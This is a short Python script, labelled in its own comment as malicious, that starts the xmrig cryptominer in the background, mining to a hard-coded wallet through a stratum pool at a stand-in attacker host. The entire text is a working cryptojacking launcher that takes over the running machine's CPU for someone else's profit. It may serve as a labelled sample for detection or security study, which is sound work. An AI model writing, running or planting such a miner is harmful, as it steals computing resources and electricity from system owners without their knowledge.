# Malicious: starts the xmrig cryptominer against a stratum pool; steals the host's CPU.
import subprocess

WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
subprocess.Popen(
    ["./xmrig", "-o", "stratum+tcp://pool.attacker.example:3333", "-u", WALLET, "--donate-level", "0", "-B"],
)
